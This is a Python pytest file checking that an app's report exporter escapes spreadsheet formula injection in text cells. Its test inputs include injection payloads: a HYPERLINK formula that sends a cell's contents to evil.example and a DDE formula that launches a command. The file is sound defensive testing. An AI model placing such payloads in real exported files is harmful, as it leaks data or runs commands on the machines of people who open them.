"""The rule every exported text cell goes through (app/reports/cells.py)."""

from datetime import date

import pytest

from app.reports.cells import safe_row, safe_text


@pytest.mark.parametrize("text", [
    '=HYPERLINK("http://evil.example/?d="&A1,"Klik")', "=cmd|' /C calc'!A0", "@SUM(1+1)", "+SUM(1,1)", "-2+3",
    "-5", "\tTeh", "\rTeh", "\nTeh", "|x", "%x",
])
def test_a_text_a_spreadsheet_would_read_as_a_formula_gets_a_quote_and_is_otherwise_kept(text):
    assert safe_text(text) == "'" + text


@pytest.mark.parametrize("text", ["Teh Manis", "Kopi = enak", "'=1+1", "", " =1+1", "#N/A", "2+3"])
def test_other_text_is_kept_as_it_is(text):
    assert safe_text(text) == text


def test_characters_xlsx_cannot_hold_are_replaced_before_the_formula_check():
    assert safe_text("Teh\x0bManis\x00") == "Teh\ufffdManis\ufffd"
    assert safe_text("\x01=1+1") == "\ufffd=1+1"
    assert safe_text("Baris 1\nBaris 2\tTab") == "Baris 1\nBaris 2\tTab"


def test_numbers_dates_and_empty_cells_are_left_as_they_are():
    row = ("-2+3", -2, 0, 12_100, 1.5, date(2025, 3, 31), None)
    assert safe_row(row) == ["'-2+3", -2, 0, 12_100, 1.5, date(2025, 3, 31), None]
